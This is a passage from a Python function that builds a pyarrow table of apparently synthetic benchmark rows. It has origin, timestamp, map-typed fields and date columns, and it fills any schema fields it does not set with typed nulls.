        "origin": pa.array([f"bench:{first + i}" for i in range(len(rows))], pa.string()),
        "timestamp": pa.array(stamps, pa.timestamp("us", tz="UTC")),
        "fields": pa.MapArray.from_arrays(pa.array(offsets, pa.int32()), pa.array(keys, pa.string()),
                                          pa.array(values, pa.string())),
        "date": pa.array([s.date().isoformat() for s in stamps], pa.string()),
    }
    return pa.Table.from_arrays(
        [columns[f.name] if f.name in columns else nulls.cast(f.type) for f in schema], schema=schema)
